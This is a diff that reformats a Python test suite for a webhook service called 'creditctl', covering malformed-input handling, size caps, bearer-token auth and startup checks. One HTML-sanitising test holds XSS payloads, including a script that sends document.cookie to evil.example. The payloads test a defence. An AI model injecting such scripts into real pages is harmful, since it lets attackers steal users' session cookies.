@@ -41,40 +41,105 @@ HOSTILE = [
     ("JSON array, not object", b'[{"ticket_id": "1"}]', {}, 400, "JSON object", True),
     ("JSON string", b'"just a string"', {}, 400, "JSON object", True),
     ("wrong content type text/plain", payload(), {"Content-Type": "text/plain"}, 415, "application/json", False),
-    ("form content type", b"ticket_id=1&body_text=x", {"Content-Type": "application/x-www-form-urlencoded"},
-     415, "application/json", False),
-    ("JSON in latin-1 charset", payload(), {"Content-Type": "application/json; charset=latin-1"}, 415, "utf-8",
-     False),
+    (
+        "form content type",
+        b"ticket_id=1&body_text=x",
+        {"Content-Type": "application/x-www-form-urlencoded"},
+        415,
+        "application/json",
+        False,
+    ),
+    ("JSON in latin-1 charset", payload(), {"Content-Type": "application/json; charset=latin-1"}, 415, "utf-8", False),
     ("ticket_id missing", json.dumps({"body_text": "Forderung 10 EUR"}).encode(), {}, 400, "ticket_id", True),
     ("no body_text nor body_html", json.dumps({"ticket_id": "1"}).encode(), {}, 400, "body_text or body_html", True),
-    ("blank bodies", json.dumps({"ticket_id": "1", "body_text": "  ", "body_html": ""}).encode(), {}, 400,
-     "body_text or body_html", True),
+    (
+        "blank bodies",
+        json.dumps({"ticket_id": "1", "body_text": "  ", "body_html": ""}).encode(),
+        {},
+        400,
+        "body_text or body_html",
+        True,
+    ),
     ("ticket_id boolean", json.dumps({"ticket_id": True, "body_text": "x"}).encode(), {}, 400, "ticket_id", True),
     ("ticket_id object", json.dumps({"ticket_id": {"a": 1}, "body_text": "x"}).encode(), {}, 400, "ticket_id", True),
     ("body_text number", json.dumps({"ticket_id": "1", "body_text": 42}).encode(), {}, 400, "body_text", True),
-    ("attachments not a list", json.dumps({"ticket_id": "1", "body_text": "x", "attachments": "a.pdf"}).encode(),
-     {}, 400, "attachments", True),
-    ("attachment size negative", json.dumps({"ticket_id": "1", "body_text": "x",
-                                            "attachments": [{"file_name": "a", "size": -1}]}).encode(),
-     {}, 400, "attachments", True),
-    ("ticket_id 10 000 chars", json.dumps({"ticket_id": "9" * 10_000, "body_text": "x"}).encode(), {}, 400,
-     "ticket_id", True),
-    ("subject 100 000 chars", json.dumps({"ticket_id": "1", "subject": "s" * 100_000, "body_text": "x"}).encode(),
-     {}, 400, "subject", True),
-    ("101 attachments", json.dumps({"ticket_id": "1", "body_text": "x",
-                                    "attachments": [{"file_name": f"{i}.pdf"} for i in range(101)]}).encode(),
-     {}, 400, "attachments", True),
-    ("headers with a nested object", json.dumps({"ticket_id": "1", "body_text": "x",
-                                                 "headers": {"X": {"y": 1}}}).encode(), {}, 400, "headers", True),
+    (
+        "attachments not a list",
+        json.dumps({"ticket_id": "1", "body_text": "x", "attachments": "a.pdf"}).encode(),
+        {},
+        400,
+        "attachments",
+        True,
+    ),
+    (
+        "attachment size negative",
+        json.dumps({"ticket_id": "1", "body_text": "x", "attachments": [{"file_name": "a", "size": -1}]}).encode(),
+        {},
+        400,
+        "attachments",
+        True,
+    ),
+    (
+        "ticket_id 10 000 chars",
+        json.dumps({"ticket_id": "9" * 10_000, "body_text": "x"}).encode(),
+        {},
+        400,
+        "ticket_id",
+        True,
+    ),
+    (
+        "subject 100 000 chars",
+        json.dumps({"ticket_id": "1", "subject": "s" * 100_000, "body_text": "x"}).encode(),
+        {},
+        400,
+        "subject",
+        True,
+    ),
+    (
+        "101 attachments",
+        json.dumps(
+            {"ticket_id": "1", "body_text": "x", "attachments": [{"file_name": f"{i}.pdf"} for i in range(101)]}
+        ).encode(),
+        {},
+        400,
+        "attachments",
+        True,
+    ),
+    (
+        "headers with a nested object",
+        json.dumps({"ticket_id": "1", "body_text": "x", "headers": {"X": {"y": 1}}}).encode(),
+        {},
+        400,
+        "headers",
+        True,
+    ),
     ("invalid UTF-8", b'{"ticket_id": "1", "body_text": "Betrag \xff\xfe 10 EUR"}', {}, 400, "UTF-8", True),
     ("UTF-8 BOM + JSON", b"\xef\xbb\xbf" + payload(), {}, 400, "not JSON", True),
-    ("deeply nested JSON (100 000 levels)", b'{"ticket_id": "1", "body_text": "x", "n": ' + b"[" * 100_000
-     + b"]" * 100_000 + b"}", {}, 400, "nested", True),
+    (
+        "deeply nested JSON (100 000 levels)",
+        b'{"ticket_id": "1", "body_text": "x", "n": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
+        {},
+        400,
+        "nested",
+        True,
+    ),
     ("NaN literal", b'{"ticket_id": "1", "body_text": "x", "n": NaN}', {}, 200, "", False),
-    ("lone surrogate escape", json.dumps({"ticket_id": "1", "body_text": "\ud800 x"}).encode(), {}, 400,
-     "body_text", True),
-    ("NUL character in body_text", json.dumps({"ticket_id": "1", "body_text": "a\u0000b 10 EUR"}).encode(), {},
-     200, "", False),
+    (
+        "lone surrogate escape",
+        json.dumps({"ticket_id": "1", "body_text": "\ud800 x"}).encode(),
+        {},
+        400,
+        "body_text",
+        True,
+    ),
+    (
+        "NUL character in body_text",
+        json.dumps({"ticket_id": "1", "body_text": "a\u0000b 10 EUR"}).encode(),
+        {},
+        200,
+        "",
+        False,
+    ),
 ]
 
 
@@ -129,9 +194,21 @@ def test_lying_or_missing_content_length_stops_reading_at_the_cap(sqlite_env, de
     headers = [(b"content-type", b"application/json")]
     if declared is not None:
         headers.append((b"content-length", declared.encode()))
-    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
-             "path": "/webhooks/zendesk", "raw_path": b"/webhooks/zendesk", "query_string": b"", "root_path": "",
-             "headers": headers, "client": ("127.0.0.1", 1), "server": ("test", 80), "state": {}}
+    scope = {
+        "type": "http",
+        "asgi": {"version": "3.0"},
+        "http_version": "1.1",
+        "method": "POST",
+        "scheme": "http",
+        "path": "/webhooks/zendesk",
+        "raw_path": b"/webhooks/zendesk",
+        "query_string": b"",
+        "root_path": "",
+        "headers": headers,
+        "client": ("127.0.0.1", 1),
+        "server": ("test", 80),
+        "state": {},
+    }
     asyncio.run(app(scope, receive, send))
     start = next(m for m in messages if m["type"] == "http.response.start")
     assert start["status"] == 413
@@ -161,10 +238,12 @@ def test_huge_html_table_is_stored_and_cleaned_within_a_raised_cap(tmp_path):
 
 
 def test_html_with_scripts_is_cleaned(sqlite_env):
-    html = ("<html><head><script>fetch('https://evil.example/?'+document.cookie)</script>"
-            "<style>p{color:red}</style></head><body onload=\"alert('x')\"><p>Die Forderung beträgt "
-            "<b>1.234,56 EUR</b>.</p><img src=x onerror=\"alert(1)\"><iframe src=\"javascript:alert(2)\"></iframe>"
-            "<script>alert('<p>Gesamtforderung 9.999,99 EUR</p>')</script></body></html>")
+    html = (
+        "<html><head><script>fetch('https://evil.example/?'+document.cookie)</script>"
+        "<style>p{color:red}</style></head><body onload=\"alert('x')\"><p>Die Forderung beträgt "
+        '<b>1.234,56 EUR</b>.</p><img src=x onerror="alert(1)"><iframe src="javascript:alert(2)"></iframe>'
+        "<script>alert('<p>Gesamtforderung 9.999,99 EUR</p>')</script></body></html>"
+    )
     body = payload(body_text=None, body_html=html)
     with TestClient(create_app(sqlite_env.ctx)) as client:
         email_id = client.post("/webhooks/zendesk", content=body, headers=signed_headers(body)).json()["email_id"]
@@ -180,19 +259,29 @@ def test_html_with_scripts_is_cleaned(sqlite_env):
 
 # auth --------------------------------------------------------------------------------
 
+
 def test_no_read_route_reveals_whether_an_id_exists(sqlite_env):
     body = payload()
     with TestClient(create_app(sqlite_env.ctx)) as client:
         email_id = client.post("/webhooks/zendesk", content=body, headers=signed_headers(body)).json()["email_id"]
         answers = []
         for path in (f"/emails/{email_id}", "/emails/987654", "/emails/0", "/emails/99999999999999999999999"):
-            for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Basic {API_TOKEN}"},
-                            {"Authorization": API_TOKEN}, {"Authorization": f"Bearer {API_TOKEN}x"}):
+            for headers in (
+                {},
+                {"Authorization": "Bearer wrong"},
+                {"Authorization": f"Basic {API_TOKEN}"},
+                {"Authorization": API_TOKEN},
+                {"Authorization": f"Bearer {API_TOKEN}x"},
+            ):
                 a = client.get(path, headers=headers)
                 answers.append((a.status_code, a.json(), a.headers.get("www-authenticate")))
         assert {a for a in [(c, json.dumps(d), w) for c, d, w in answers]} == {
-            (401, json.dumps({"status": "error", "detail": "missing or wrong bearer token"}),
-             'Bearer realm="creditctl"')}
+            (
+                401,
+                json.dumps({"status": "error", "detail": "missing or wrong bearer token"}),
+                'Bearer realm="creditctl"',
+            )
+        }
         assert client.get("/emails/99999999999999999999999", headers=AUTH).status_code == 404
         assert client.get("/emails/0", headers=AUTH).status_code == 404
         assert client.get(f"/emails/{email_id}", headers={"Authorization": f"bearer {API_TOKEN}"}).status_code == 200
@@ -232,8 +321,14 @@ def _serve_env(tmp_path: Path, **extra: str) -> dict[str, str]:
 
 
 def test_serve_refuses_to_start_without_the_webhook_secret(tmp_path):
-    done = subprocess.run([sys.executable, "-m", "creditctl", "serve", "--port", str(free_port())],
-                          env=_serve_env(tmp_path), cwd=tmp_path, capture_output=True, text=True, timeout=60)
+    done = subprocess.run(
+        [sys.executable, "-m", "creditctl", "serve", "--port", str(free_port())],
+        env=_serve_env(tmp_path),
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert done.returncode == 2, done.stderr
     assert "CREDITCTL_ZENDESK_WEBHOOK_SECRET" in done.stderr and "--insecure-dev" in done.stderr
 
@@ -242,9 +337,14 @@ def test_serve_insecure_dev_starts_and_warns_on_every_request(tmp_path):
     import httpx
 
     port = free_port()
-    proc = subprocess.Popen([sys.executable, "-m", "creditctl", "serve", "--insecure-dev", "--port", str(port)],
-                            env=_serve_env(tmp_path, CREDITCTL_API_TOKEN=API_TOKEN), cwd=tmp_path,
-                            stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True)
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "creditctl", "serve", "--insecure-dev", "--port", str(port)],
+        env=_serve_env(tmp_path, CREDITCTL_API_TOKEN=API_TOKEN),
+        cwd=tmp_path,
+        stderr=subprocess.PIPE,
+        stdout=subprocess.DEVNULL,
+        text=True,
+    )
     try:
         deadline = time.monotonic() + 60
         while True:
@@ -256,8 +356,12 @@ def test_serve_insecure_dev_starts_and_warns_on_every_request(tmp_path):
             assert proc.poll() is None and time.monotonic() < deadline, "serve did not start"
             time.sleep(0.2)
         body = payload()
-        unsigned = httpx.post(f"http://127.0.0.1:{port}/webhooks/zendesk", content=body,
-                              headers={"Content-Type": "application/json"}, timeout=10)
+        unsigned = httpx.post(
+            f"http://127.0.0.1:{port}/webhooks/zendesk",
+            content=body,
+            headers={"Content-Type": "application/json"},
+            timeout=10,
+        )
         assert unsigned.status_code == 200 and unsigned.json()["status"] == "accepted"
         assert httpx.get(f"http://127.0.0.1:{port}/metrics", timeout=5).status_code == 401
     finally:
